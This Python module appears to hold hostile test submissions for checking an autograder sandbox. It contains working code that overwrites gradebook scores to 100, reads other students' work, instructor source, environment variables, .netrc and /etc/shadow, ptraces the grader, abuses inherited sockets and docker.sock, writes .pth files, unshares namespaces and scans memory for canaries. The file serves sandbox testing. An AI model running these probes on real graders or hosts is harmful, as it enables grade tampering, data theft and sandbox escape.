"""Searches for what is secret, ways out of the sandbox, and writing where none may."""

from __future__ import annotations

from functools import partial

from ..hostile import code

_secret = partial(code, attacks="secrets")

_READ = """
import os, glob
def read(*patterns):
    for pattern in patterns:
        for path in [pattern, *glob.glob(pattern, recursive=True)][:200]:
            try: print("read", path, open(path, errors="replace").read()[-20_000:])
            except Exception as error: print(type(error).__name__)
n = 3
"""

SECRETS = (
    _secret(
        "gradebook",
        "reads the gradebook, and writes itself a score into it",
        n=_READ
        + """
read("@ROOT@/gradebook.db", "@ROOT@/*.csv")
import sqlite3
try:
    book = sqlite3.connect("@ROOT@/gradebook.db")
    for table, in book.execute("select name from sqlite_master").fetchall():
        print("read", book.execute(f"select * from {table}").fetchall())
    book.execute("update grade set manual_score = 100")
    book.commit()
except Exception as error: print(error)
""",
    ),
    _secret(
        "seed",
        "reads the seed, the roster and what lies beside the course",
        n=_READ
        + 'read("@ROOT@/.autograder-seed", "@ROOT@/roster.csv", "@PLACE@/*.txt")',
    ),
    _secret(
        "source",
        "reads the instructor's version, by every path",
        n=_READ
        + """
read("@ROOT@/source/**", "@PLACE@/**", "@REPO@/source/**",
     "../../source/*/*", "../../../*/*/*.ipynb")
""",
    ),
    _secret(
        "others",
        "reads what others handed in, and what is left of them",
        n=_READ
        + """
read("@ROOT@/submitted/*/*/*", "@ROOT@/autograded/*/*/*", "../*", "../../*/*/*",
     "/tmp/*", "/tmp/*/*", "/dev/shm/*", "/var/tmp/*", "/run/*/*")
""",
    ),
    _secret(
        "environment",
        "reads environments: its own, its parents', all others'",
        n=_READ
        + """
print("read", dict(os.environ))
read("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*", "/proc/1/roo?/*",
     "/proc/*/root@ROOT@/roster.csv", "@HOME@/.netrc", "@HOME@/.*", "/root*/.*")
""",
    ),
    _secret(
        "descriptors",
        "uses every open descriptor, sockets of its parents among them",
        n=_READ
        + """
import socket, json
for number in range(3, 300):
    try: print("fd", number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError: continue
    try:
        end = socket.socket(fileno=os.dup(number))
        end.settimeout(0.2)
        if end.family == socket.AF_UNIX and "k-" not in str(end.getsockname()):
            end.send(json.dumps({"start": {}}).encode() + b"\\n")
            print("read", end.recv(4096))
    except Exception as error: print(type(error).__name__)
for parent in (1, os.getppid()):
    try: print("read", os.listdir(f"/proc/{parent}/fd"))
    except OSError as error: print(error)
""",
    ),
    _secret(
        "ptrace",
        "traces and reads its parent and the grader",
        n=_READ
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
own = {int(thread) for thread in os.listdir("/proc/self/task")}
for pid in {1, os.getppid(), @PID@, 2, 3, 4, 5} - own:
    print("traced", pid, libc.ptrace(16, pid, 0, 0))
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory: print("WRITABLE memory")
    except OSError as error: print(error)
    if pid not in (os.getpid(), 1):
        try: os.kill(pid, 0); print("signal reaches", pid)
        except OSError as error: print(error)
""",
    ),
    _secret(
        "network",
        "speaks to this machine and to the internet",
        n="""
        import socket
        for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("::1", @PORT@),
                        ("192.0.2.1", 80), ("1.1.1.1", 53)):
            try: socket.create_connection(address, 1).send(b"@MARK@")
            except Exception as error: print(error)
        try: print(socket.getaddrinfo("example.org", 80))
        except Exception as error: print(error)
        for name in ("\\0@PLACE@", "@PLACE@/socket", "/run/docker.sock"):
            try:
                end = socket.socket(socket.AF_UNIX)
                end.connect(name)
                end.send(b"@MARK@")
            except Exception as error: print(error)
        n = 3
        """,
    ),
    _secret(
        "writes",
        "writes into the environment, the course, temporary folders, and itself",
        n="""
        import os, site, sys
        places = ["@VENV@", "@REPO@", "@ROOT@", "@HOME@", "@PLACE@", "/tmp", "/",
                  "/usr", "/dev/shm", "/etc", "/opt", "/run", "/var/tmp", *sys.path]
        disk = os.stat("/tmp").st_dev  # the kernel's own, in the end
        for place in places:
            try: open(os.path.join(place, "@MARK@.pth"), "w").close()
            except OSError: continue
            own = place.startswith("/tmp/") and os.stat(place).st_dev == disk
            if place not in ("/tmp", "/dev/shm") and os.getcwd() != place and not own:
                print("WRITABLE", place)
        for module in [*sys.modules.values()]:
            path = getattr(module, "__file__", None)
            try:
                if path: open(path, "r+").close()
            except OSError: continue
            if path: print("WRITABLE", path)
        """,
    ),
    _secret(
        "namespaces",
        "makes namespaces, mounts, gains power",
        n=_READ
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x40000000, 0x20000000):
    if libc.unshare(flags) == 0: print("WRITABLE namespaces")
for pid in (1, os.getppid()):
    try:
        if libc.setns(os.open(f"/proc/{pid}/ns/mnt", 0), 0) == 0: print("WRITABLE ns")
    except OSError: pass
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: print("WRITABLE mounts")
for call in (os.setuid, os.setgid):
    try: call(0); print("WRITABLE ids")
    except OSError: pass
read("/etc/shadow", "/proc/kcore", "/dev/mem", "/sys/kernel/**")
""",
    ),
    _secret(
        "memory-of-its-own",
        "reads all memory of its own process for what was left in it",
        n="""
        import re
        mark = re.compile(rb"canary:[a-z]+-[0-9a-f]{12}")
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
            for line in maps:
                if " rw" not in line and " r" not in line: continue
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if end - start > 2 ** 28: continue
                try:
                    memory.seek(start)
                    for found in set(mark.findall(memory.read(end - start))):
                        print("read", found)
                except (OSError, ValueError, OverflowError): pass
        n = 3
        """,
    ),
    _secret(
        "after-questions",
        "reads its memory again after it was asked about everything",
        n="class N(int): pass\nn = N(3)",
        m="""
        import gc, re
        mark = re.compile("canary:[a-z]+-[0-9a-f]{12}")
        for held in gc.get_objects():
            try: text = repr(held)[:100_000]
            except Exception: continue
            for found in mark.findall(text): print("read", found)
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
            for line in maps:
                if " rw" not in line: continue
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if end - start > 2 ** 28: continue
                try:
                    memory.seek(start)
                    data = memory.read(end - start)
                except (OSError, ValueError, OverflowError): continue
                for found in set(re.findall(rb"canary:[a-z]+-[0-9a-f]{12}", data)):
                    print("read", found)
        m = 0
        """,
    ),
)
